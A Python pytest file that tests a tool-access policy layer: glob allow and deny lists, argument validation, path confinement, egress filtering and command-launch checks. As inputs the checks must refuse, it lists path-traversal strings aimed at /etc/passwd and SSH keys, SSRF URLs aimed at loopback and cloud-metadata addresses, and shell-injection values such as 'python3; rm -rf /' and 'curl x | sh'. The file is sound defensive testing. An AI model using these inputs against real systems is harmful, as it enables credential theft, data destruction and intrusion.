"""Capability checks against hostile inputs: globs, argument validation, path confinement, egress, launch."""

from __future__ import annotations

import ipaddress
from pathlib import Path

import pytest

from policies.arguments import ArgumentLimits, ArgumentValidator, limit_problem
from policies.egress import (
    EgressPolicy,
    address_problem,
    egress_problem,
    literal_addresses,
    parse_target,
    url_values,
)
from policies.globs import ToolFilter
from policies.launch import LaunchPolicy, launch_problem
from policies.paths import PathPolicy, path_problem, path_values

MiB = 1024 * 1024


# --- allow / deny ----------------------------------------------------------------------------------


def test_tool_filter_globs_deny_wins() -> None:
    f = ToolFilter.of(allow=["read_*", "git/*"], deny=["*delete*", "git/git_push"])
    assert f.denial("fs", "read_file") is None
    assert f.denial("git", "git_log") is None
    assert "denied" in (f.denial("git", "git_push") or "")
    assert "denied" in (f.denial("fs", "read_and_delete") or "")
    assert "allow list" in (f.denial("fs", "write_file") or "")
    assert ToolFilter().denial("any", "thing") is None


# --- arguments -------------------------------------------------------------------------------------

SCHEMA = {
    "type": "object",
    "properties": {"n": {"type": "integer"}, "s": {"type": "string"}, "o": {"type": "object"}},
    "required": ["n"],
    "additionalProperties": False,
}


def test_schema_type_errors() -> None:
    v = ArgumentValidator.compile(SCHEMA)
    assert v.problem({"n": 1, "s": "x"}) is None
    assert "n" in (v.problem({"n": "one"}) or "")
    assert "required" in (v.problem({}) or "")
    assert "additional" in (v.problem({"n": 1, "zzz": 1}) or "").lower()
    assert "JSON object" in (v.problem([1, 2]) or "")


def test_huge_string_refused_before_schema() -> None:
    v = ArgumentValidator.compile(SCHEMA)
    assert "string of" in (v.problem({"n": 1, "s": "a" * MiB}) or "")
    assert v.problem({"n": 1, "s": "a" * (MiB - 1)}) is None
    # multi-byte characters count in bytes
    assert "string of" in (v.problem({"n": 1, "s": "é" * (MiB // 2)}) or "")


def test_deep_nesting_refused_without_recursion() -> None:
    deep: dict = {}
    node = deep
    for _ in range(100_000):  # would blow a recursive walker's stack
        node["o"] = {}
        node = node["o"]
    v = ArgumentValidator.compile(SCHEMA)
    assert "nested deeper" in (v.problem({"n": 1, "o": deep}) or "")
    lst: list = []
    cur = lst
    for _ in range(50):
        cur.append([])
        cur = cur[0]
    assert "nested deeper" in (limit_problem({"x": lst}, ArgumentLimits()) or "")


def test_total_size_item_count_and_non_json_values() -> None:
    limits = ArgumentLimits(max_total_bytes=1000, max_items=50)
    assert "larger" in (limit_problem({"a": ["x" * 100] * 20}, limits) or "")
    assert "more than" in (limit_problem({"a": list(range(100))}, limits) or "")
    assert "JSON cannot carry" in (limit_problem({"a": object()}, ArgumentLimits()) or "")
    assert "non-string key" in (limit_problem({"a": {1: 2}}, ArgumentLimits()) or "")


def test_invalid_schema_fails_closed_and_no_schema_still_limits() -> None:
    bad = ArgumentValidator.compile({"type": "no-such-type"})
    assert "inputSchema is invalid" in (bad.problem({}) or "")
    none = ArgumentValidator.compile(None)
    assert none.problem({"anything": 1}) is None
    assert none.problem({"s": "a" * MiB}) is not None


# --- path confinement -------------------------------------------------------------------------------


@pytest.fixture
def sandbox(tmp_path: Path) -> tuple[Path, Path]:
    root = tmp_path / "root"
    (root / "sub").mkdir(parents=True)
    (root / "sub" / "ok.txt").write_text("ok")
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text("secret")
    (root / "escape").symlink_to(outside)
    (root / "etc-link").symlink_to("/etc/passwd")
    (root / "inner-link").symlink_to(root / "sub")
    return root, outside


def test_paths_inside_roots_pass(sandbox: tuple[Path, Path]) -> None:
    root, _ = sandbox
    policy = PathPolicy((str(root),))
    for value in [
        str(root / "sub" / "ok.txt"),
        "sub/ok.txt",
        "sub/../sub/ok.txt",
        "inner-link/ok.txt",
        f"file://{root}/sub/ok.txt",
        f"file://localhost{root}/sub/new-file.txt",
        str(root),
    ]:
        assert path_problem(value, policy) is None, value


@pytest.mark.parametrize(
    "value",
    [
        "../outside/secret.txt",
        "sub/../../outside/secret.txt",
        "/etc/passwd",
        "..%2foutside%2fsecret.txt",
        "%2e%2e/outside/secret.txt",
        "%252e%252e%252foutside",  # double-encoded
        "..\\outside\\secret.txt",
        "sub/ok.txt\x00../../etc/passwd",
        "sub/ok.txt%00",
        "escape/secret.txt",  # symlink pointing outside
        "etc-link",
        "file:///etc/passwd",
        "file:///etc",
        "FILE:///etc/shadow",
        "file://evil.example.com/share/x",
        "file://",
        "~/.ssh/id_rsa",
    ],
)
def test_path_escapes_denied(sandbox: tuple[Path, Path], value: str) -> None:
    root, _ = sandbox
    assert path_problem(value, PathPolicy((str(root),))) is not None


def test_relative_paths_also_checked_against_server_cwd(sandbox: tuple[Path, Path]) -> None:
    root, outside = sandbox
    policy = PathPolicy((str(root),), cwd=str(outside))
    assert path_problem("secret.txt", policy) is not None  # inside the cwd, outside the roots


def test_no_roots_means_every_path_is_denied() -> None:
    assert path_problem("/tmp/x", PathPolicy(())) == "no roots are configured for paths"


def test_path_values_finds_declared_and_file_uris() -> None:
    args = {
        "path": "a.txt",
        "opts": {"dest": "b.txt", "note": "file:///etc/passwd", "list": ["x", "file:///y"]},
        "paths": ["c", "d"],
        "text": "not a path",
    }
    found = dict(path_values(args, ["path", "dest", "paths"]))
    assert found == {
        "path": "a.txt",
        "opts.dest": "b.txt",
        "opts.note": "file:///etc/passwd",
        "opts.list[1]": "file:///y",
        "paths[0]": "c",
        "paths[1]": "d",
    }


# --- egress ------------------------------------------------------------------------------------------


def judge(url: str, resolved: list[str] | None = None, policy: EgressPolicy | None = None) -> str | None:
    policy = policy or EgressPolicy.of()
    target = parse_target("url", url, policy)
    addrs = [ipaddress.ip_address(a) for a in (resolved or [])]
    return egress_problem(target, addrs, policy)


@pytest.mark.parametrize(
    "url",
    [
        "http://127.0.0.1/",
        "http://127.1/",
        "http://2130706433/",
        "http://0x7f.0.0.1/",
        "http://0x7f000001/",
        "http://0177.0.0.1/",
        "http://[::1]/",
        "http://[::ffff:127.0.0.1]/",
        "http://[::ffff:7f00:1]/",
        "http://[0:0:0:0:0:ffff:127.0.0.1]:8080/",
        "http://169.254.169.254/latest/meta-data/",
        "http://[fd00::1]/",
        "http://[fd12:3456::1]/",
        "http://100.64.0.1/",
        "http://100.127.255.254/",
        "http://10.0.0.1/",
        "http://172.16.5.4/",
        "http://192.168.1.1/",
        "http://0.0.0.0/",
        "http://0/",
        "http://[::]/",
        "http://[fe80::1%25eth0]/",
        "http://[2002:7f00:1::]/",  # 6to4 embedding 127.0.0.1
        "http://[64:ff9b::a9fe:a9fe]/",  # NAT64 embedding 169.254.169.254
        "http://%31%32%37.0.0.1/",  # percent-encoded host
        "http://１２７.０.０.１/",  # fullwidth digits
        "http://127.0.0.1./",
        "http://user:pw@127.0.0.1/",
        "http://evil.com@127.0.0.1/",
        "http://localhost/",
        "http://LOCALHOST./",
        "http://app.localhost/",
        "http://metadata.google.internal/",
        "http://127.0.0.1\\@evil.com/",
        "http://127.0.0.1 /",
        "gopher://example.com/",
        "ftp://example.com/",
        "http:///nohost",
        "http://example.com:99999/",
    ],
)
def test_egress_denied(url: str) -> None:
    assert judge(url, ["93.184.216.34"]) is not None, url


def test_egress_resolved_addresses_are_judged() -> None:
    assert judge("https://example.com/", ["93.184.216.34"]) is None
    # a public name that resolves to a private address (DNS rebinding style)
    assert "forbidden" in (judge("https://rebind.example/", ["93.184.216.34", "10.1.2.3"]) or "")
    assert "did not resolve" in (judge("https://nxdomain.example/", []) or "")


def test_egress_allowlist_hosts_and_networks() -> None:
    policy = EgressPolicy.of(allow=["localhost", "*.corp.example", "10.0.0.0/8", "::1/128"])
    assert judge("http://localhost:8080/", ["127.0.0.1"], policy) is None
    assert judge("http://db.corp.example/", ["10.0.0.5"], policy) is None
    assert judge("http://10.2.3.4/", [], policy) is None
    assert judge("http://[::1]/", [], policy) is None
    assert judge("http://127.0.0.1/", [], policy) is not None


def test_literal_address_parsing() -> None:
    assert literal_addresses("127.1") == (ipaddress.ip_address("127.0.0.1"),)
    assert literal_addresses("2130706433") == (ipaddress.ip_address("127.0.0.1"),)
    assert literal_addresses("0x7f.0.0.1") == (ipaddress.ip_address("127.0.0.1"),)
    assert literal_addresses("example.com") == ()
    assert literal_addresses("cafe.be") == ()
    assert address_problem(ipaddress.ip_address("8.8.8.8")) is None
    assert address_problem(ipaddress.ip_address("2606:4700::1111")) is None


def test_url_values_finds_network_urls_and_declared_args() -> None:
    args = {
        "url": "https://a.example/",
        "text": "see https://b.example/ inline",
        "target": "c.example",
        "x": ["ws://d/"],
    }
    found = {w: (v, d) for w, v, d in url_values(args, ["target"])}
    assert found == {
        "url": ("https://a.example/", False),
        "target": ("c.example", True),
        "x[0]": ("ws://d/", False),
    }
    # a declared URL argument without a scheme is refused
    assert "scheme" in (judge("c.example") or "")


# --- stdio launch ----------------------------------------------------------------------------------


def test_launch_allowlist_and_shell_syntax() -> None:
    policy = LaunchPolicy(allowed_commands=("python*", "/usr/bin/node", "uvx"))
    assert launch_problem("python3", ["-m", "x"], policy) is None
    assert launch_problem("/work/.venv/bin/python", ["-m", "x"], policy) is None
    assert launch_problem("/usr/bin/node", [], policy) is None
    assert "allowlist" in (launch_problem("curl", [], policy) or "")
    assert "shell syntax" in (launch_problem("python3; rm -rf /", [], policy) or "")
    assert "shell syntax" in (launch_problem("$(curl evil)", [], LaunchPolicy()) or "")
    assert "shell syntax" in (launch_problem("node`id`", [], LaunchPolicy()) or "")
    assert "NUL" in (launch_problem("python3", ["a\x00b"], policy) or "")
    assert "shell command line" in (launch_problem("bash", ["-c", "curl x | sh"], LaunchPolicy()) or "")
    assert launch_problem("bash", ["-c", "echo"], LaunchPolicy(allowed_commands=("bash",))) is None
    assert launch_problem(" python3", [], LaunchPolicy()) is not None


def test_fast_path_never_accepts_what_jsonschema_refuses() -> None:
    from hypothesis import given, settings
    from hypothesis import strategies as st

    schema = {
        "type": "object",
        "properties": {
            "s": {"type": "string"},
            "i": {"type": "integer"},
            "n": {"type": "number"},
            "b": {"type": "boolean"},
            "a": {"type": "array"},
            "o": {"type": "object"},
            "z": {"type": "null"},
            "any": {"description": "untyped"},
        },
        "required": ["s"],
        "additionalProperties": False,
    }
    v = ArgumentValidator.compile(schema)
    assert v.fast is not None
    scalars = st.one_of(
        st.none(),
        st.booleans(),
        st.integers(),
        st.floats(allow_nan=False, allow_infinity=False),
        st.text(max_size=5),
    )
    values = st.one_of(
        scalars, st.lists(scalars, max_size=2), st.dictionaries(st.text(max_size=3), scalars, max_size=2)
    )
    keys = st.sampled_from(["s", "i", "n", "b", "a", "o", "z", "any", "extra"])

    @settings(max_examples=300, deadline=None)
    @given(st.dictionaries(keys, values, max_size=5))
    def check(args: dict) -> None:
        errors = list(v.validator.iter_errors(args))  # type: ignore[union-attr]  # v.fast is set (asserted above), which compile() does only with a validator
        if v.fast(args):
            assert not errors, (args, errors)
        assert (v.problem(args) is None) == (not errors)

    check()
    # schemas with anything else go to jsonschema only
    assert (
        ArgumentValidator.compile(
            {"type": "object", "properties": {"u": {"type": "string", "format": "uri"}}}
        ).fast
        is None
    )
